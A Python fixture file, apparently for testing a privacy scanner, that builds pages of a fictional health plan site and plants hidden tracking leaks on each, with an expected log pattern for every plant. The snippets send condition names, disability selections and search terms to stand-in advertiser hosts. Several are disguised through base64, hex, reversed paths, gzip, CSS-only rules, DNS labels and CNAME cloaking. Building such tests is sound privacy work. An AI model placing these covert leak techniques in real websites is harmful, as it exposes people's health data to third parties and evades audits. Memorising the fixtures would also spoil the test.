"""Pages that leak what is read, through every channel a browser has."""

from __future__ import annotations

import vendors
from registry import AB, FONTS, METRICS, PX, REPORTS, RT, SYNC, WWW, Plant, inline, page, tag

CONDITIONS = ("/healthy-living/", "Healthy living")
TEXT = "<p>What it is, what helps, and which classes near you are free for members.</p><p>Call the nurse advice line with any question.</p>"

page(
    "/conditions/diabetes/",
    "Living with diabetes",
    TEXT,
    Plant(
        "px-title-url",
        "advertiser's tag sends page address and title, which name a condition",
        "image-get",
        ("4.11", "14.2", "4.8"),
        "px.adtrack.example",
        r"log:GET px\.adtrack\.example/tr/\?.*dt=Living%20with%20diabetes",
        head=tag(vendors.TAG),
    ),
    Plant(
        "noscript-pixel",
        "pixel for browsers without JavaScript",
        "noscript-image",
        ("4.8", "14.2", "4.11"),
        "px.adtrack.example",
        r"log:GET px\.adtrack\.example/tr/\?.*noscript=1.*diabetes",
        ("nojs",),
        body=f'<noscript><img height="1" width="1" style="display:none" alt="" src="{PX}/tr/?id=318800144&ev=PageView&noscript=1&dl=%2Fconditions%2Fdiabetes%2F"></noscript>\n',
    ),
    parent=CONDITIONS,
)

page(
    "/conditions/depression/",
    "Depression and low mood",
    TEXT,
    Plant(
        "pagehide-beacon-base64",
        "sendBeacon at pagehide, base64 of JSON with title and address",
        "beacon-pagehide",
        ("4.11", "14.2", "4.8"),
        "px.adtrack.example",
        r"log:POST px\.adtrack\.example/b/leave .*BODY=eyJ0IjoiRGVwcmVzc2lvbi",
        ("first", "leave"),
        hard=True,
        body=inline(
            f"addEventListener('pagehide',function(){{navigator.sendBeacon('{PX}/b/leave',btoa(JSON.stringify({{t:document.title,u:location.href}})))}});"
        ),
    ),
    Plant(
        "timer-12s-gzip",
        "after 12 s a gzip body with the page's title",
        "fetch-gzip-timer",
        ("4.11", "14.2"),
        "px.adtrack.example",
        r"log:POST px\.adtrack\.example/b/engaged",
        ("first", "timer-12s"),
        hard=True,
        body=inline(
            f"setTimeout(function(){{new Response(new Blob([JSON.stringify({{ev:'engaged',title:document.title,sec:12}})]).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer().then(function(b){{fetch('{PX}/b/engaged',{{method:'POST',mode:'no-cors',body:b}})}})}},12000);"
        ),
    ),
    parent=CONDITIONS,
    slow=True,
)

page(
    "/conditions/pregnancy/",
    "Pregnancy and birth",
    TEXT,
    Plant(
        "ws-hex-title",
        "WebSocket message with the title in hexadecimal",
        "websocket",
        ("4.11", "14.2"),
        RT,
        r"log:WS rt\.streamline\.example/ws .*BODY=.*507265676e616e6379",
        hard=True,
        body=inline(
            f"(function(){{var s=new WebSocket('{vendors.WS_URL}');s.onopen=function(){{var h='';for(var i=0;i<document.title.length;i++)h+=document.title.charCodeAt(i).toString(16).padStart(2,'0');s.send(JSON.stringify({{op:'view',p:h}}))}}}})();"
        ),
    ),
    Plant(
        "sse-condition",
        "EventSource to a third party with the topic in its query",
        "eventsource",
        ("4.11", "14.2"),
        RT,
        r"log:GET rt\.streamline\.example/sse\?topic=pregnancy",
        body=inline(f"new EventSource('http://{RT}/sse?topic=pregnancy');"),
    ),
    parent=CONDITIONS,
)

page(
    "/conditions/hiv/",
    "HIV prevention",
    TEXT,
    Plant(
        "keepalive-visibility-reversed",
        "fetch keepalive when the tab is hidden, path reversed",
        "fetch-keepalive-visibilitychange",
        ("4.11", "14.2"),
        "px.adtrack.example",
        r"log:POST px\.adtrack\.example/b/hide .*BODY=p=/vih/snoitidnoc/",
        ("first", "hidden"),
        hard=True,
        body=inline(
            f"document.addEventListener('visibilitychange',function(){{if(document.visibilityState==='hidden')fetch('{PX}/b/hide',{{method:'POST',keepalive:true,mode:'no-cors',headers:{{'Content-Type':'application/x-www-form-urlencoded'}},body:'p='+location.pathname.split('').reverse().join('')}})}});"
        ),
    ),
    Plant(
        "css-background-condition",
        "style sheet's background image at an advertiser, condition in the path",
        "css-url",
        ("4.11", "14.2"),
        "px.adtrack.example",
        r"log:GET px\.adtrack\.example/seg/hiv-prep/bg\.png",
        head=f'<style>main h1{{background:url("{PX}/seg/hiv-prep/bg.png") no-repeat right}}</style>\n',
    ),
    parent=CONDITIONS,
)

page(
    "/conditions/asthma/",
    "Asthma",
    TEXT,
    Plant(
        "declared-beacon-extra-condition",
        "the declared first-party page beacon carries a field that is not declared: the condition",
        "first-party-beacon-extra",
        ("4.11", "2.1", "4.8"),
        "www.millbrook.example",
        r"log:POST www\.millbrook\.example/_a/v .*\"condition\": ?\"asthma\"",
        hard=True,
        body=inline(
            "fetch('/_a/v',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({path:location.pathname,page_language:'en',condition:'asthma',severity:'persistent'})});"
        ),
    ),
    Plant(
        "condition-in-hostname",
        "condition in the host name of an image",
        "dns-label",
        ("4.11", "14.2"),
        "asthma-persistent.c.adtrack.example",
        r"log:GET asthma-persistent\.c\.adtrack\.example/p\.gif",
        hard=True,
        body=inline(
            "(function(){var c='asthma-persistent';new Image().src='http://'+c+'.c.adtrack.example/p.gif'})();"
        ),
    ),
    parent=CONDITIONS,
)

page(
    "/conditions/cancer/",
    "Cancer screening",
    TEXT,
    Plant(
        "postmessage-frame",
        "title handed by postMessage to a third party's frame, which sends it on",
        "postmessage",
        ("4.11", "14.2", "4.8"),
        "sync.idgraph.example",
        r"log:GET sync\.idgraph\.example/pm\.gif\?m=.*Cancer%20screening",
        hard=True,
        body=f'<iframe id="sg" src="{SYNC}/frame.html" width="0" height="0" hidden title="s"></iframe>'
        + inline(
            "document.getElementById('sg').addEventListener('load',function(){this.contentWindow.postMessage({t:document.title},'*')});"
        ),
    ),
    Plant(
        "fragment-frame",
        "page address in the fragment of a third party's frame, which reads and sends it",
        "url-fragment",
        ("4.11", "14.2"),
        "sync.idgraph.example",
        r"log:POST sync\.idgraph\.example/h .*BODY=src=.*conditions/cancer",
        hard=True,
        body=inline(
            f"(function(){{var f=document.createElement('iframe');f.width=f.height=0;f.src='{SYNC}/hash.html#src='+location.pathname;document.body.appendChild(f)}})();"
        ),
    ),
    Plant(
        "unsafe-url-referrer",
        "Referrer-Policy unsafe-url: an image at a third party gets the whole address of a condition page",
        "referrer-header",
        ("12.3", "4.11", "14.2"),
        "news.citypaper.example",
        r"log:GET news\.citypaper\.example/badge\.png .*REF=http://www\.millbrook\.example/conditions/cancer/",
        headers=(("Referrer-Policy", "unsafe-url"),),
        body='<img src="http://news.citypaper.example/badge.png" alt="Award of the City Paper" width="80" height="20">',
    ),
    parent=CONDITIONS,
)

page(
    "/about/",
    "About Millbrook",
    "<p>We are a public health plan for Millbrook County.</p>",
    Plant(
        "preconnect",
        "preconnect to an advertiser",
        "preconnect",
        ("14.2", "11.3"),
        "pre.adtrack.example",
        "netlog:pre.adtrack.example",
        note="a connection without a request; off in incognito contexts, so NetLog of an ordinary profile is needed",
        head='<link rel="preconnect" href="http://pre.adtrack.example">\n',
        hard=True,
    ),
    Plant(
        "dns-prefetch",
        "dns-prefetch of an advertiser's host",
        "dns-prefetch",
        ("14.2", "11.3"),
        "dns.adtrack.example",
        "markup:dns-prefetch",
        note="with MAP the name is never asked for, so the markup is the evidence",
        head='<link rel="dns-prefetch" href="//dns.adtrack.example">\n',
        hard=True,
    ),
    Plant(
        "prefetch",
        "prefetch of a third party's page",
        "prefetch",
        ("14.2", "11.3"),
        "cdn.abtest.example",
        r"log:GET cdn\.abtest\.example/next\.html",
        head=f'<link rel="prefetch" href="{AB}/next.html">\n',
    ),
    Plant(
        "modulepreload",
        "modulepreload from a third party",
        "modulepreload",
        ("14.2", "11.3"),
        "cdn.abtest.example",
        r"log:GET cdn\.abtest\.example/m/preload\.mjs",
        head=f'<link rel="modulepreload" href="{vendors.PRELOADED}">\n',
    ),
    langs=("en", "es", "ar"),
)

page(
    "/about/leadership/",
    "Leadership",
    "<p>The board meets in public on the first Thursday of each month.</p>",
    Plant(
        "css-import",
        "@import of a third party's style sheet",
        "css-import",
        ("14.2", "11.3"),
        "fonts.typehost.example",
        r"log:GET fonts\.typehost\.example/css2",
        head=f'<style>@import url("{FONTS}/css2?family=Lark");</style>\n',
    ),
    Plant(
        "web-font",
        "font file of a third party, named by that style sheet",
        "font",
        ("14.2", "11.3"),
        "fonts.typehost.example",
        r"log:GET fonts\.typehost\.example/s/lark\.woff2",
        head="<style>h1{font-family:Lark,sans-serif}</style>\n",
    ),
    Plant(
        "third-party-favicon",
        "favicon from a third party's host",
        "favicon",
        ("14.2", "11.3"),
        "icons.typehost.example",
        "netlog:icons.typehost.example",
        swap=(
            (
                '<link rel="icon" href="/assets/favicon.png">',
                '<link rel="icon" href="http://icons.typehost.example/mb.png">',
            ),
        ),
        hard=True,
        note="headless Chromium may not fetch favicons; the markup is proof then",
    ),
    Plant(
        "video-poster",
        "poster of a video at a third party",
        "media-poster",
        ("14.2", "11.3"),
        "media.tube-cdn.example",
        r"log:GET media\.tube-cdn\.example/poster\.jpg",
        body='<video poster="http://media.tube-cdn.example/poster.jpg" width="160" height="90" controls preload="none"></video>',
    ),
    Plant(
        "svg-image-href",
        "SVG image element with a third party's address",
        "svg-image",
        ("14.2", "11.3"),
        "img.pollster.example",
        r"log:GET img\.pollster\.example/board\.png",
        body='<svg width="40" height="40" role="img" aria-label="Board"><image href="http://img.pollster.example/board.png" width="40" height="40"/></svg>',
    ),
    Plant(
        "object-data",
        "object element with a third party's document",
        "object",
        ("14.2", "11.3", "14.1"),
        "docs.pollster.example",
        r"log:GET docs\.pollster\.example/chart\.html",
        body='<object data="http://docs.pollster.example/chart.html" type="text/html" width="120" height="40">Chart</object>',
    ),
    parent=("/about/", "About Millbrook"),
)

page(
    "/accessibility/",
    "Accessibility choices",
    '<form><p><label><input type="checkbox" id="deaf" class="need"> I am deaf or hard of hearing <span class="m"></span></label></p><p><label>Search this page <input type="search" class="s" id="s"></label></p></form>',
    Plant(
        "css-checked-exfil",
        "style rule :checked loads an advertiser's image when a disability is ticked; no script",
        "css-checked",
        ("4.11", "14.2", "1.1"),
        "px.adtrack.example",
        r"log:GET px\.adtrack\.example/seg/hearing-loss\.gif",
        ("first", "interact"),
        hard=True,
        head=f'<style>.need:checked~.m{{display:inline-block;width:1px;height:1px;background:url("{PX}/seg/hearing-loss.gif")}}</style>\n',
    ),
    Plant(
        "css-focus-exfil",
        "style rule :focus loads a third party's image",
        "css-focus",
        ("14.2", "4.8"),
        "px.adtrack.example",
        r"log:GET px\.adtrack\.example/f/search\.gif",
        ("first", "interact"),
        hard=True,
        head=f'<style>.s:focus{{background-image:url("{PX}/f/search.gif")}}</style>\n',
    ),
)

page(
    "/media/",
    "Media library",
    "<p>Pictures and sound for reporters.</p>",
    Plant(
        "worker-fetch",
        "a worker made from a blob sends the address",
        "worker",
        ("14.2", "11.3"),
        "wk.adtrack.example",
        r"log:\w+ wk\.adtrack\.example/w\?p=%2Fmedia%2F",
        hard=True,
        body=inline(
            "new Worker(URL.createObjectURL(new Blob([\"fetch('http://wk.adtrack.example/w?p='+encodeURIComponent('\"+location.pathname+\"'),{mode:'no-cors'})\"],{type:'text/javascript'})));"
        ),
    ),
    Plant(
        "sharedworker-fetch",
        "a shared worker from our own host calls a third party",
        "shared-worker",
        ("14.2", "11.3"),
        "sw.adtrack.example",
        r"log:\w+ sw\.adtrack\.example/s",
        hard=True,
        body=inline("new SharedWorker('/assets/shared.9ad0.js');"),
    ),
    Plant(
        "srcdoc-pixel",
        "pixel inside an iframe given as srcdoc",
        "iframe-srcdoc",
        ("4.8", "14.2"),
        "px.adtrack.example",
        r"log:GET px\.adtrack\.example/sd\.gif",
        hard=True,
        body=f'<iframe srcdoc="&lt;img src=\'{PX}/sd.gif?p=media\'&gt;" width="1" height="1" title="m"></iframe>',
    ),
    Plant(
        "blob-frame-pixel",
        "pixel inside an iframe made from a blob",
        "iframe-blob",
        ("4.8", "14.2"),
        "px.adtrack.example",
        r"log:GET px\.adtrack\.example/bf\.gif",
        hard=True,
        body=inline(
            f"(function(){{var f=document.createElement('iframe');f.width=f.height=1;f.src=URL.createObjectURL(new Blob([\"<img src='{PX}/bf.gif'>\"],{{type:'text/html'}}));document.body.appendChild(f)}})();"
        ),
    ),
    Plant(
        "service-worker-leak",
        "a service worker of our own host reports each page to a third party",
        "service-worker",
        ("14.2", "4.8"),
        "px.adtrack.example",
        r"log:\w+ px\.adtrack\.example/swk",
        ("secure-context",),
        secure=True,
        hard=True,
        body=inline(
            "if(navigator.serviceWorker)navigator.serviceWorker.register('/sw-media.js',{scope:'/media/'}).then(function(r){var w=r.active||r.installing||r.waiting;w&&w.postMessage(location.pathname)});"
        ),
    ),
)

page(
    "/press/",
    "Press room",
    "<p>Write to the press office for interviews.</p>",
    Plant(
        "csp-report-third-party",
        "Content-Security-Policy-Report-Only sends reports, with the page's address, to a third party",
        "csp-report",
        ("14.2", "11.3"),
        "csp.reportly.example",
        r"log:POST csp\.reportly\.example/r/mb",
        hard=True,
        headers=(
            ("Content-Security-Policy-Report-Only", f"default-src 'self'; img-src 'none'; report-uri {REPORTS}/r/mb"),
        ),
    ),
    Plant(
        "link-header-preload",
        "Link response header preloads from a third party",
        "link-header",
        ("14.2", "11.3"),
        "fonts.typehost.example",
        r"log:GET fonts\.typehost\.example/s/lark-press\.woff2",
        hard=True,
        headers=(("Link", f"<{FONTS}/s/lark-press.woff2>; rel=preload; as=font; crossorigin"),),
    ),
    Plant(
        "dynamic-import",
        "dynamic import() of a third party's module after load",
        "dynamic-import",
        ("14.2", "11.3"),
        "cdn.abtest.example",
        r"log:GET cdn\.abtest\.example/m/experiments\.mjs",
        body=inline(f"addEventListener('load',function(){{import('{vendors.AB_MODULE}')}});"),
    ),
    parent=("/about/", "About Millbrook"),
)

page(
    "/partners/",
    "Our partners",
    "<p>Clinics, schools and libraries that work with us.</p>",
    Plant(
        "first-party-redirect-image",
        "a picture of our own host is redirected to an advertiser",
        "redirect-chain",
        ("14.2", "4.8"),
        "px.adtrack.example",
        r"log:GET px\.adtrack\.example/r1\.gif",
        hard=True,
        body='<img src="/media/partners-hero.jpg" alt="" width="1" height="1">',
    ),
    Plant(
        "redirect-cookie-sync",
        "a chain through two identity hosts passes one's id to the other and sets a cookie on the way",
        "redirect-chain",
        ("4.6", "11.3", "14.2"),
        "sync.idgraph.example",
        r"log:GET sync\.idgraph\.example/m\?partner=adtrack&uid=\w+",
        hard=True,
        body=f'<img src="{PX}/ss?next={SYNC}/m" alt="" width="1" height="1">',
    ),
    parent=("/about/", "About Millbrook"),
)

page(
    "/partners/thanks/",
    "Thank you",
    "<p>Your message to our partner desk has arrived. You will go on to the plans in a moment.</p>",
    Plant(
        "meta-refresh-bounce",
        "meta refresh goes through a tracker, which sets its cookie as a first party and sends back",
        "meta-refresh",
        ("14.2", "11.3", "4.6"),
        "px.adtrack.example",
        r"log:GET px\.adtrack\.example/bounce",
        ("first", "wait-2s"),
        hard=True,
        head=f'<meta http-equiv="refresh" content="1;url={PX}/bounce?to={WWW}/plans/">\n',
    ),
    parent=("/partners/", "Our partners"),
)

page(
    "/no-such-page/",
    "Page not found",
    "<p>There is no such page. Try the site map.</p>",
    Plant(
        "pixel-on-404",
        "the page for wrong addresses sends the address to an advertiser",
        "image-get",
        ("14.2", "4.8"),
        "px.adtrack.example",
        r"log:GET px\.adtrack\.example/e404\.gif",
        body=inline(f"new Image().src='{PX}/e404.gif?u='+encodeURIComponent(location.href);"),
    ),
    status=404,
)

page(
    "/find/",
    "Find a doctor",
    '<form method="get" action="/find/" role="search"><label>Specialty or clinic <input type="search" name="q"></label> <button>Search</button></form><p class="hits">Dr. Ada Winslow, Weir Lane Clinic. Dr. Omar Brooks, Mill Street Clinic.</p>',
    Plant(
        "suggest-cname",
        "each key in the search box goes to a host that looks like ours and is a CNAME of another company",
        "cname-cloaked",
        ("4.8", "11.3", "14.2", "0.4"),
        "metrics.millbrook.example",
        r"log:POST metrics\.millbrook\.example/ss/b .*\"q\":\"",
        ("first", "type"),
        hard=True,
        head=tag(vendors.SUGGEST),
        note="needs a resolver: see cnames.yaml",
    ),
    Plant(
        "search-term-px",
        "what was searched is sent to an advertiser with the results page",
        "image-get",
        ("4.11", "14.2"),
        "px.adtrack.example",
        r"log:GET px\.adtrack\.example/tr/\?.*ev=Search",
        ("first", "submit"),
        body=inline(
            f"(function(){{var q=new URLSearchParams(location.search).get('q');if(q)new Image().src='{PX}/tr/?id=318800144&ev=Search&cd%5Bsearch_string%5D='+encodeURIComponent(q)}})();"
        ),
    ),
)

assert METRICS
